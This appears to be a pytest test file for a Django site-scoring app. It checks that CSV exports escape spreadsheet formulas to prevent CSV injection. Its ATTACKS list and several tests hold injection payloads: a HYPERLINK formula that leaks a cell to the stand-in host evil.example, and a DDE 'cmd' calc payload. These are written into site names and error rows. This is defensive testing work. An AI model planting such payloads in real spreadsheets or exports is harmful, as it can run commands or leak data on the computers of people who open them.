"""CSV exports never carry a live spreadsheet formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from django.contrib.auth.models import Group, User
from django.core.management import call_command

from grid.models import GridConnectionPoint, Zone
from siting import csv_safe
from siting.dashboard import selectors as dashboard
from siting.importers.sites import RowError, template_csv
from siting.models import ScoringRun, Site
from siting.uploads import services as uploads
from tests.support.uploads import boundaries, user  # noqa: F401
from tests.support.world import scored_world_create

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


class CellTests:
    @pytest.mark.parametrize("text", ATTACKS)
    def test_it_prefixes_formula_like_text(self, text):
        assert csv_safe.cell(text) == "'" + text

    @pytest.mark.parametrize("value", ["Aciérie de Gandrange", "", "a=b", "GE-1", 3, -4.5, None, True])
    def test_it_keeps_ordinary_values(self, value):
        assert csv_safe.cell(value) == value

    @pytest.mark.parametrize("text", ["-5", "-12.5", "+3e4", "-.5", "+7"])
    def test_it_keeps_a_genuine_signed_number_as_a_number(self, text):
        assert csv_safe.cell(text) == text

    def test_it_leaves_numeric_columns_numeric_and_neutralises_text_ones(self):
        frame = pd.DataFrame({"name": ["=1+1", "Plain", None], "score": [-0.5, 1.0, 2.0], "id": ["-x", "@y", "z"]})
        rows = list(csv.reader(io.StringIO(csv_safe.frame_csv(frame))))
        assert rows == [["name", "score", "id"], ["'=1+1", "-0.5", "'-x"], ["Plain", "1.0", "'@y"], ["", "2.0", "z"]]
        assert frame["name"][0] == "=1+1"  # the caller's frame is not changed


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _no_formula(rows: list[list[str]]) -> None:
    for r in rows:
        for value in r:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or csv_safe._PLAIN_NUMBER.fullmatch(value), value


class ExportTests:
    def test_it_neutralises_the_upload_error_report(self):
        text = uploads.errors_csv(
            [
                RowError(2, "name", '=HYPERLINK("http://evil.example")', "x"),
                RowError(3, "area_ha", "-5", "must be greater than 0"),
            ]
        )
        rows = _read(text)
        assert rows[1][2] == '\'=HYPERLINK("http://evil.example")'
        assert rows[2][2] == "-5"  # a rejected negative number stays a number
        _no_formula(rows)

    def test_it_writes_the_template_through_the_helper(self):
        _no_formula(_read(template_csv()))

    @pytest.mark.django_db
    def test_it_neutralises_names_in_the_ranked_export_and_keeps_numbers(self, client):
        run = scored_world_create(n_sites=30, n_points=30, draws=0)
        try:
            u = User.objects.create_user("planner-csv", password="pw")
            u.groups.add(Group.objects.get(name="planner"))
            client.force_login(u)
            url = f"/api/runs/{run.code}/sites/?size=1000&format=csv"
            first = list(csv.DictReader(io.StringIO(client.get(url).content.decode())))[0]
            site = Site.objects.get(id=int(first["site_id"]))
            Site.objects.filter(id=site.id).update(name='=HYPERLINK("http://evil.example/"&A1)', municipality="@SUM(1)")
            dashboard.caches_clear()
            resp = client.get(url)
            assert resp.status_code == 200
            body = b"".join(resp.streaming_content).decode() if resp.streaming else resp.content.decode()
            rows = list(csv.DictReader(io.StringIO(body)))
            mine = [r for r in rows if int(r["site_id"]) == site.id][0]
            assert mine["site_name"] == '\'=HYPERLINK("http://evil.example/"&A1)'
            assert mine["municipality"] == "'@SUM(1)"
            assert float(mine["score"]) >= 0 and float(mine["longitude"]) == pytest.approx(site.longitude, abs=1e-6)
            _no_formula(_read(body))
        finally:
            dashboard.caches_clear()

    @pytest.mark.django_db
    def test_it_neutralises_the_score_command_output(self, tmp_path):
        scored_world_create(n_sites=20, n_points=20, draws=0)
        Site.objects.filter(id=Site.objects.order_by("id").first().id).update(name="+cmd|' /C calc'!A0")
        out = tmp_path / "ranked.csv"
        call_command("score", "--sizes", "1000", "--draws", "0", "--out", str(out), stdout=io.StringIO())
        rows = _read(out.read_text())
        names = [r[rows[0].index("site_name")] for r in rows[1:]]
        assert "'+cmd|' /C calc'!A0" in names
        _no_formula(rows)
        assert ScoringRun.objects.exists() and Zone.objects.exists() and GridConnectionPoint.objects.exists()
